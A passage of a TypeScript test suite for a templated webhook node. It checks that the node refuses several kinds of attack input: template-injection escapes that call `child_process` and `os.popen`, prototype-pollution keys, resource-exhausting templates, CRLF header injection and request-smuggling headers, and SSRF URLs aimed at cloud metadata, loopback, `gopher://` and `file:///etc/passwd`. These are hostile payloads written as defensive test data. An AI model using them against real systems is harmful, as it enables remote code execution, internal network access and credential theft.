		['lone braces', '{{ {% }} %} {# #'],
		['a 100,000-character value', `{{ x }}${'y'.repeat(100_000)}`],
	];

	test.each(payloads)('%s: sent verbatim inside JSON (| tojson) and as text', async (_name, payload) => {
		dnsFake();
		const { received } = receiverFake(() => [200]);
		const item = { note: payload, profile: { email: 'ada@example.com' } };
		const json = await runWebhook(webhookParameters({ template: '{"note": {{ note | tojson }}, "email": {{ profile.email | tojson }}}' }), [item]);
		const text = await runWebhook(webhookParameters({ template: 'Note: {{ note }}', contentType: 'text' }), [item]);
		expect(json.error).toBeUndefined();
		expect(text.error).toBeUndefined();
		expect(received).toHaveLength(2);
		expect(JSON.parse(received[0].rawBody)).toEqual({ note: payload, email: 'ada@example.com' });
		expect(received[1].rawBody).toBe(`Note: ${payload}`);
		expect(received.map((request) => request.rawBody).join('\n')).not.toContain(CANARY);
	});

	test('hostile keys (__proto__, constructor, template code) stay plain keys and pollute nothing', async () => {
		dnsFake();
		const { received } = receiverFake(() => [200]);
		const profile = JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": "c", "{{ 7*7 }}": "k"}') as IDataObject;
		const run = await runWebhook(webhookParameters({ template: '{{ profile | tojson }}' }), [{ profile }]);
		expect(run.error).toBeUndefined();
		const sent = JSON.parse(received[0].rawBody) as Record<string, unknown>;
		expect(Object.keys(sent)).toEqual(['__proto__', 'constructor', '{{ 7*7 }}']);
		expect(Object.getOwnPropertyDescriptor(sent, '__proto__')?.value).toEqual({ polluted: 'yes' });
		expect(({} as IDataObject).polluted).toBeUndefined();
	});
});

describe('Templated Webhook: template escape attempts reach nothing', () => {
	// Either the template fails (it calls something that is not a function: nothing runs) or the
	// lookup is empty and renders null. Which one is pinned per case.
	const CANNOT_CALL = /^The body template could not be rendered: Cannot call something that is not a function: got UndefinedValue \(item 0\)$/;
	const escapes: Array<[string, RegExp | null]> = [
		["''.constructor.constructor('return process')()", CANNOT_CALL],
		["profile['constructor']['constructor']('return process')()", CANNOT_CALL],
		['profile.__proto__', null],
		['profile.__proto__.constructor', null],
		['profile.constructor.prototype', null],
		['profile.prototype', null],
		['globalThis', null],
		['globalThis.process.env', null],
		['process.env.CRM_RELAY_CANARY', null],
		["require('child_process').execSync('id')", CANNOT_CALL],
		["Function('return process')()", CANNOT_CALL],
		["range.constructor('return process')()", CANNOT_CALL],
		["raise_exception.constructor('return process')()", CANNOT_CALL],
		['namespace.constructor', null],
		["cycler.__init__.__globals__.os.popen('id').read()", CANNOT_CALL],
		['self.__init__.__globals__', null],
		['lipsum.__globals__', null],
		['config.items()', CANNOT_CALL],
		['profile.email.__class__.__mro__[1].__subclasses__()', /^The body template could not be rendered: Cannot access property with non-string: got IntegerValue \(item 0\)$/],
		["'a'.constructor.fromCharCode(65)", CANNOT_CALL],
		['this', null],
	];

	test.each(escapes)('{{ %s }}', async (expression, error) => {
		dnsFake();
		const { received } = receiverFake(() => [200]);
		const run = await runWebhook(webhookParameters({ template: `{"x": {{ ${expression} | tojson }}}` }), [CONTACT]);
		if (error) {
			expectNothingSent(run, received, error);
		} else {
			expect(run.error).toBeUndefined();
			expect(received.map((request) => request.rawBody)).toEqual(['{"x": null}']);
		}
	});
});

const LONG_TEMPLATE = `{{ profile.email }}${' '.repeat(100_000)}`;

describe('Templated Webhook: runaway templates end with the bounded error; nothing is sent', () => {
	const data = { ...CONTACT, big: 'y'.repeat(2000), huge: 'z'.repeat(100_000) };
	const runaways: Array<[string, string, RegExp]> = [
		['two nested range(10000)', '{% for i in range(10000) %}{% for j in range(10000) %}{{ i }}{% endfor %}{% endfor %}', /^The body template exceeded the render limit of 200000 steps/],
		['three nested range(100)', '{% for i in range(100) %}{% for j in range(100) %}{% for k in range(100) %}{% endfor %}{% endfor %}{% endfor %}', /render limit of 200000 steps/],
		['range(10 ** 9)', '{% for i in range(10 ** 9) %}x{% endfor %}', /^range\(\) in the body template asked for 1000000000 numbers; at most 10000 are allowed/],
		['range with a tiny float step', '{% for i in range(0, 1, 0.0000001) %}x{% endfor %}', /asked for 10000000 numbers; at most 10000/],
		['a macro calling itself (the engine gives a macro no access to itself)', '{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}', /^The body template could not be rendered: Cannot call something that is not a function/],
		['two macros calling each other', '{% macro a(n) %}{{ b(n) }}{% endmacro %}{% macro b(n) %}{{ a(n) }}{% endmacro %}{{ a(1) }}', /^The body template could not be rendered: Cannot call something that is not a function/],
		['a macro doubling a string in a loop', '{% macro twice(s) %}{{ s ~ s }}{% endmacro %}{% set ns = namespace(s="x") %}{% for i in range(64) %}{% set ns.s = twice(ns.s) %}{% endfor %}{{ ns.s }}', /^The body template produced more than 1000000 characters/],
		['a list doubled 100 times', '{% set ns = namespace(l=[1]) %}{% for i in range(100) %}{% set ns.l = ns.l + ns.l %}{% endfor %}{{ ns.l | length }}', /exceeded the render limit of 200000 steps|list or object larger than 1000000/],
		['an item value printed 10,000 times', '{% for i in range(10000) %}{{ huge }}{% endfor %}', /^The body template built more than 20000000 characters of text while rendering/],
		['a huge join of item data', '{{ range(10000) | join(big) }}', /^The body template would build a joined text larger than 1000000 characters/],
		['text joined by itself', '{{ big | join(big) }}', /joined text larger than 1000000/],
		['replace("", …) multiplying item data', '{{ big.replace("", big) }}', /replaced text larger than 1000000/],
		['tojson with a huge indent', '{{ profile | tojson(indent=100000000) }}', /JSON text larger than 1000000/],
		['indent with a huge width', '{{ big | indent(100000000, true) }}', /indented text larger than 1000000/],
		['3,000 nested parentheses (parser recursion)', `{{ ${'('.repeat(3000)}1${')'.repeat(3000)} }}`, /^The body template has a syntax error: Maximum call stack size exceeded/],
		['3,000 nested ifs', `${'{% if true %}'.repeat(3000)}1${'{% endif %}'.repeat(3000)}`, /^The body template has a syntax error: Maximum call stack size exceeded/],
		['2 ** 100000', '{{ 2 ** 100000 }}', /^The body template could not be rendered: Exponentiation result is not a finite real number/],
		['a template over 100,000 characters', LONG_TEMPLATE, new RegExp(`^The body template is ${LONG_TEMPLATE.length} characters long; at most 100000 are allowed`)],
	];

	test.each(runaways)('%s', async (_name, template, message) => {
		dnsFake();
		const { received } = receiverFake(() => [200]);
		expectNothingSent(await runWebhook(webhookParameters({ template, contentType: 'text' }), [data]), received, message);
	});
});

describe('Templated Webhook: invalid Headers JSON is refused; nothing is sent', () => {
	const headerCases: Array<[string, string, RegExp]> = [
		['CRLF in a value (response splitting)', '{"X-A": "v\\r\\nX-Injected: 1"}', /^Header "X-A" contains a line break or NUL character/],
		['LF alone in a value', '{"X-A": "v\\nSet-Cookie: a=b"}', /^Header "X-A" contains a line break/],
		['NUL in a value', '{"X-A": "v\\u0000w"}', /^Header "X-A" contains a line break or NUL character/],
		['a control character (U+0001) in a value', '{"X-A": "a\\u0001b"}', /^Header "X-A" contains the character U\+0001, which HTTP header values cannot carry/],
		['DEL (U+007F) in a value', '{"X-A": "a\\u007fb"}', /^Header "X-A" contains the character U\+007F/],
		['a euro sign (beyond Latin-1) in a value', '{"X-Name": "Zoë €"}', /^Header "X-Name" contains the character U\+20AC/],
		['a line separator (U+2028) in a value', '{"X-A": "a\\u2028b"}', /^Header "X-A" contains the character U\+2028/],
		['CRLF in a name', '{"X-A\\r\\nX-Injected": "1"}', /^Header name "X-A\\r\\nX-Injected" is not a valid HTTP header name/],
		['a colon in a name', '{"X-A: b": "c"}', /^Header name "X-A: b" is not a valid HTTP header name/],
		['a space in a name', '{"X A": "1"}', /is not a valid HTTP header name/],
		['an empty name', '{"": "1"}', /^Header name "" is not a valid HTTP header name/],
		['a non-ASCII name', '{"X-Ünïcode": "1"}', /is not a valid HTTP header name/],
		['Host', '{"Host": "169.254.169.254"}', /^Header "Host" cannot be set: the HTTP client sets it/],
		['host in lower case', '{"host": "internal"}', /^Header "host" cannot be set/],
		['Content-Length (request smuggling)', '{"Content-Length": "0"}', /^Header "Content-Length" cannot be set/],
		['Transfer-Encoding (request smuggling)', '{"Transfer-Encoding": "chunked"}', /^Header "Transfer-Encoding" cannot be set/],
		['Connection', '{"Connection": "keep-alive, X-Delivery-Id"}', /^Header "Connection" cannot be set/],
		['Upgrade', '{"Upgrade": "websocket"}', /^Header "Upgrade" cannot be set/],
		['Proxy-Authorization', '{"Proxy-Authorization": "Basic eDp5"}', /^Header "Proxy-Authorization" cannot be set/],
		['the same name twice, same spelling', '{"X-A": "1", "X-A": "2"}', /^Header "X-A" appears twice \(header names ignore case\)/],
		['the same name twice, other case', '{"X-A": "1", "x-a": "2"}', /^Header "x-a" appears twice/],
		['the node\'s Delivery ID header', '{"X-Delivery-Id": "forged"}', /^Header "X-Delivery-Id" is set by the node/],
		['a JSON string', '"X-A: 1"', /^Headers must be a JSON object, not string/],
		['a number', '42', /^Headers must be a JSON object, not number/],
		['true', 'true', /^Headers must be a JSON object, not boolean/],
		['an array of pairs', '[["X-A", "1"]]', /^Headers must be a JSON object, not a list/],
		['an array of objects', '[{"X-A": "1"}]', /^Headers must be a JSON object, not a list/],
		['an object value', '{"X-A": {"b": "c"}}', /^Header "X-A" must have a text value, not object/],
		['an array value', '{"X-A": ["1", "2"]}', /^Header "X-A" must have a text value, not object/],
		['a number value', '{"X-Version": 2}', /^Header "X-Version" must have a text value, not number/],
		['a null value', '{"X-A": null}', /^Header "X-A" must have a text value, not null/],
		['a trailing comma', '{"X-A": "1",}', /^Headers: the text is not valid JSON: unexpected "}" at line 1, column 13/],
		['single quotes', "{'X-A': '1'}", /^Headers: the text is not valid JSON: unexpected "'" at line 1, column 2/],
		['an unquoted name', '{X-A: "1"}', /^Headers: the text is not valid JSON: unexpected "X" at line 1, column 2/],
		['a comment', '{"X-A": "1" /* c */}', /^Headers: the text is not valid JSON: unexpected "\/" at line 1, column 13/],
		['two objects', '{"X-A": "1"}{"X-B": "2"}', /^Headers: the text is not valid JSON: unexpected "{" at line 1, column 13/],
		['cut short', '{"X-A": "1"', /^Headers: the text is not valid JSON: the text ended early at line 1, column 12/],
	];

	test.each(headerCases)('%s', async (_name, headers, message) => {
		dnsFake();
		const { received } = receiverFake(() => [200]);
		expectNothingSent(await runWebhook(webhookParameters({ headers }), [CONTACT]), received, message);
	});
});

describe('Templated Webhook: private, loopback and metadata targets are refused before any request', () => {
	/** A fake DNS zone: each name resolves to addresses a target must not have. */
	const zone: Record<string, string[]> = {
		'private10.example.com': ['10.0.0.5'],
		'private172.example.com': ['172.16.5.4'],
		'private192.example.com': ['192.168.0.10'],
		'loopback.example.com': ['127.0.0.1'],
		'metadata.example.com': ['169.254.169.254'],
		'linklocal.example.com': ['169.254.3.4'],
		'v6loopback.example.com': ['::1'],
		'v6linklocal.example.com': ['fe80::1'],
		'v6ula.example.com': ['fd00::1'],
		'mapped.example.com': ['::ffff:10.0.0.1'],
		'cgnat.example.com': ['100.64.0.1'],
		'zero.example.com': ['0.0.0.0'],
		'one-bad-of-three.example.com': [PUBLIC_IP, '2606:2800:21f:cb07:6820:80da:af6b:8b2c', '192.168.1.1'],
		'aws-v6-metadata.example.com': ['fd00:ec2::254'],
		'169.254.169.254.nip.io': ['169.254.169.254'],
	};
	const literal = (rule: string, address: string) => new RegExp(`\\(rule: ${rule.replace(/[()]/g, '\\$&')}\\): ${address.replace(/[.[\]]/g, '\\$&')} is a`);
	const viaDns = (rule: string, name: string, address: string) =>
		new RegExp(`\\(rule: ${rule.replace(/[()]/g, '\\$&')}\\): ${name.replace(/\./g, '\\.')} resolves to ${address.replace(/\./g, '\\.')}, which is a`);

	// [url, rule, detail, whether the name is looked up]
	const targets: Array<[string, string, RegExp, boolean]> = [
		['https://10.0.0.1/hook', 'private', literal('private', '10.0.0.1'), false],
		['https://10.255.255.254/hook', 'private', literal('private', '10.255.255.254'), false],
		['https://172.16.0.1/hook', 'private', literal('private', '172.16.0.1'), false],
		['https://172.31.255.255/hook', 'private', literal('private', '172.31.255.255'), false],
		['https://192.168.1.1/hook', 'private', literal('private', '192.168.1.1'), false],
		['https://127.0.0.1/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://127.8.9.10/hook', 'loopback', literal('loopback', '127.8.9.10'), false],
		['http://127.0.0.1:5678/webhook/x', 'loopback', /plain http to loopback needs the loopback option/, false],
		['https://169.254.169.254/latest/meta-data/', 'cloud metadata', literal('cloud metadata', '169.254.169.254'), false],
		['https://100.100.100.200/latest/meta-data/', 'cloud metadata', literal('cloud metadata', '100.100.100.200'), false],
		['https://[::1]/hook', 'loopback', literal('loopback', '::1'), false],
		['https://[fe80::1]/hook', 'link-local', literal('link-local', 'fe80::1'), false],
		['https://[fd00::1]/hook', 'unique-local', literal('unique-local', 'fd00::1'), false],
		['https://[fd00:ec2::254]/latest/meta-data/', 'cloud metadata', literal('cloud metadata', 'fd00:ec2::254'), false],
		['https://[::ffff:10.0.0.1]/hook', 'IPv4-mapped IPv6', literal('IPv4-mapped IPv6', '::ffff:a00:1'), false],
		['https://[::ffff:169.254.169.254]/hook', 'IPv4-mapped IPv6', literal('IPv4-mapped IPv6', '::ffff:a9fe:a9fe'), false],
		['https://[64:ff9b::a9fe:a9fe]/hook', 'cloud metadata', literal('cloud metadata', '64:ff9b::a9fe:a9fe'), false],
		['https://[::]/hook', 'unspecified', literal('unspecified', '::'), false],
		['https://100.64.0.1/hook', 'shared address space (CGNAT)', literal('shared address space (CGNAT)', '100.64.0.1'), false],
		['https://0.0.0.0/hook', 'unspecified', literal('unspecified', '0.0.0.0'), false],
		['https://0/hook', 'unspecified', literal('unspecified', '0.0.0.0'), false],
		['http://2130706433/hook', 'loopback', /plain http to loopback needs the loopback option/, false],
		['https://2130706433/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['http://0x7f.0.0.1/hook', 'loopback', /plain http to loopback needs the loopback option/, false],
		['https://0x7f.0.0.1/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://0177.0.0.1/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://017700000001/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://127.1/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://0xa9.0xfe.0xa9.0xfe/latest/meta-data/', 'cloud metadata', literal('cloud metadata', '169.254.169.254'), false],
		['https://2852039166/latest/meta-data/', 'cloud metadata', literal('cloud metadata', '169.254.169.254'), false],
		['https://１２７.０.０.１/hook', 'loopback', literal('loopback', '127.0.0.1'), false],
		['https://169.254.169.254./latest/meta-data/', 'cloud metadata', literal('cloud metadata', '169.254.169.254'), false],
		['https://metadata.google.internal/computeMetadata/v1/', 'cloud metadata', /metadata\.google\.internal is a cloud metadata host/, false],
		['https://METADATA.GOOGLE.INTERNAL./computeMetadata/v1/', 'cloud metadata', /metadata\.google\.internal is a cloud metadata host/, false],
		['https://localhost/hook', 'loopback', /localhost is a loopback name/, false],
		['https://api.localhost/hook', 'loopback', /api\.localhost is a loopback name/, false],
		['https://hooks.example.com@169.254.169.254/', 'credentials in URL', /the URL contains a user name or password/, false],
		['file:///etc/passwd', 'https only', /the scheme file is not allowed/, false],
		['gopher://127.0.0.1:6379/_FLUSHALL', 'https only', /the scheme gopher is not allowed/, false],
		['http://10.0.0.1/hook', 'https only', /plain http is allowed only to a loopback address/, false],
		['https://private10.example.com/hook', 'private', viaDns('private', 'private10.example.com', '10.0.0.5'), true],
		['https://private172.example.com/hook', 'private', viaDns('private', 'private172.example.com', '172.16.5.4'), true],
		['https://private192.example.com/hook', 'private', viaDns('private', 'private192.example.com', '192.168.0.10'), true],
		['https://loopback.example.com/hook', 'loopback', viaDns('loopback', 'loopback.example.com', '127.0.0.1'), true],
		['https://metadata.example.com/latest/meta-data/', 'cloud metadata', viaDns('cloud metadata', 'metadata.example.com', '169.254.169.254'), true],
		['https://169.254.169.254.nip.io/latest/meta-data/', 'cloud metadata', viaDns('cloud metadata', '169.254.169.254.nip.io', '169.254.169.254'), true],
		['https://linklocal.example.com/hook', 'link-local', viaDns('link-local', 'linklocal.example.com', '169.254.3.4'), true],
		['https://v6loopback.example.com/hook', 'loopback', viaDns('loopback', 'v6loopback.example.com', '::1'), true],
		['https://v6linklocal.example.com/hook', 'link-local', viaDns('link-local', 'v6linklocal.example.com', 'fe80::1'), true],
		['https://v6ula.example.com/hook', 'unique-local', viaDns('unique-local', 'v6ula.example.com', 'fd00::1'), true],
		['https://mapped.example.com/hook', 'IPv4-mapped IPv6', viaDns('IPv4-mapped IPv6', 'mapped.example.com', '::ffff:10.0.0.1'), true],
		['https://cgnat.example.com/hook', 'shared address space (CGNAT)', viaDns('shared address space (CGNAT)', 'cgnat.example.com', '100.64.0.1'), true],
		['https://zero.example.com/hook', 'unspecified', viaDns('unspecified', 'zero.example.com', '0.0.0.0'), true],
		['https://one-bad-of-three.example.com/hook', 'private', viaDns('private', 'one-bad-of-three.example.com', '192.168.1.1'), true],
		['https://aws-v6-metadata.example.com/latest/meta-data/', 'cloud metadata', viaDns('cloud metadata', 'aws-v6-metadata.example.com', 'fd00:ec2::254'), true],
	];

	test.each(targets)('%s is refused by rule "%s"', async (url, rule, detail, looksUp) => {
		const dns = dnsFake(zone);
		const received = anyHost();
		const run = await runWebhook(webhookParameters({ url }), [CONTACT]);
		expectNothingSent(run, received, new RegExp(`^The URL \\S+ was refused \\(rule: ${rule.replace(/[()]/g, '\\$&')}\\): .+ \\(item 0\\)$`));
		expect(run.error?.message).toMatch(detail);
		expect((run.error as unknown as { description: string }).description).toMatch(/Nothing was sent for this item\.$/);
		expect(dns.asked.map((question) => question.hostname)).toEqual(looksUp ? [new URL(url).hostname] : []);
	});

	test('a hostile URL in the second item (from an expression) names item 1, and the first item is not sent either', async () => {
		dnsFake({ 'hooks.example.com': [PUBLIC_IP] });
		const received = anyHost();
		const run = await runWebhook(webhookParameters({ url: '={{ $json.url }}' }), [{ url: 'https://hooks.example.com/a' }, { url: 'https://[::ffff:127.0.0.1]/admin' }]);
		expectNothingSent(run, received, /^The URL https:\/\/\[::ffff:7f00:1\]\/admin was refused \(rule: IPv4-mapped IPv6\)/, 1);
	});

	test('under continueOnFail only the hostile item is held back (Dropped, naming item and rule); the other is sent', async () => {
		dnsFake({ 'hooks.example.com': [PUBLIC_IP], 'metadata.example.com': ['169.254.169.254'] });
		const received = anyHost();
		const run = await runWebhook(
			webhookParameters({ url: '={{ $json.url }}' }),
			[{ url: 'https://metadata.example.com/latest' }, { url: 'https://hooks.example.com/a' }],
			{ continueOnFail: true },
		);
		expect(received).toEqual(['POST hooks.example.com/a']);
		expect(run.delivered.map((item) => item.pairedItem)).toEqual([{ item: 1 }]);
		expect(run.dropped).toHaveLength(1);
		expect(run.dropped[0].pairedItem).toEqual({ item: 0 });
		expect(run.dropped[0].json.error).toBe(
			'The URL https://metadata.example.com/latest was refused (rule: cloud metadata): metadata.example.com resolves to 169.254.169.254, which is a cloud metadata address (item 0)',
		);
	});
});
